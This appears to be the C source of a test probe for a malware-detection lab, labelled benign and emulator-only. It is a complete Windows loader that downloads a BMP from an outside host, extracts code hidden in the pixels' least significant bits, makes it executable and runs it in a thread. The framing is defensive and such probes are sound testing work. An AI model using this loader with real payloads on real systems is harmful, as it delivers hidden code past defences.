/*
 * loader.c - probe: a payload hidden in the least significant bits of a picture's pixels
 * (steganography, T1027.003; benign, emulator-only; see ../../lineage-common/common.h).
 *
 * Downloads a 24-bit BMP (WinINet) into a heap block, checks its headers, takes the payload's
 * length from the LSBs of the first 32 pixel bytes and the payload one bit per pixel byte after
 * them into new PAGE_READWRITE memory, makes that PAGE_EXECUTE_READ and runs it in a thread.
 * The stage writes C:\Users\Public\lineage_stego.txt.
 * Exit codes: 0 ok, 1 no marker, 2 download, 3 picture, 4 memory, 5 thread.
 */
#include "common.h"
#include <wininet.h>

#define MAX_PICTURE 0x40000

void Entry(void)
{
    static struct sc_ctx ctx;
    unsigned char *pic, *pixels, *code;
    HINTERNET net, url;
    DWORD got, total = 0, i, len, old;
    HANDLE thread;

    if (!marker_present())
        ExitProcess(1);
    pic = (unsigned char *)HeapAlloc(GetProcessHeap(), 0, MAX_PICTURE);
    net = InternetOpenA("Mozilla/5.0 (Windows NT 10.0; Win64; x64)", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    url = net ? InternetOpenUrlA(net, "https://cdn.example-img.net/assets/banner.bmp", 0, 0, INTERNET_FLAG_RELOAD, 0) : 0;
    if (!pic || !url)
        ExitProcess(2);
    while (total < MAX_PICTURE && InternetReadFile(url, pic + total, MAX_PICTURE - total, &got) && got)
        total += got;
    InternetCloseHandle(url);
    InternetCloseHandle(net);
    if (total < 54 + 32 || pic[0] != 'B' || pic[1] != 'M' || *(WORD *)(pic + 28) != 24)
        ExitProcess(3);
    pixels = pic + *(DWORD *)(pic + 10);
    for (len = 0, i = 0; i < 32; i++)
        len |= (DWORD)(pixels[i] & 1) << i;
    if (len == 0 || (len + 4) * 8 > total)
        ExitProcess(3);
    code = (unsigned char *)VirtualAlloc(0, len, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!code)
        ExitProcess(4);
    for (i = 0; i < len; i++) {
        unsigned char b = 0;
        DWORD k;
        for (k = 0; k < 8; k++)
            b |= (unsigned char)((pixels[32 + i * 8 + k] & 1) << k);
        code[i] = b;
    }
    if (!VirtualProtect(code, len, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_stego.txt", "decoded from a picture's pixels\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)code, &ctx, 0, 0);
    if (!thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
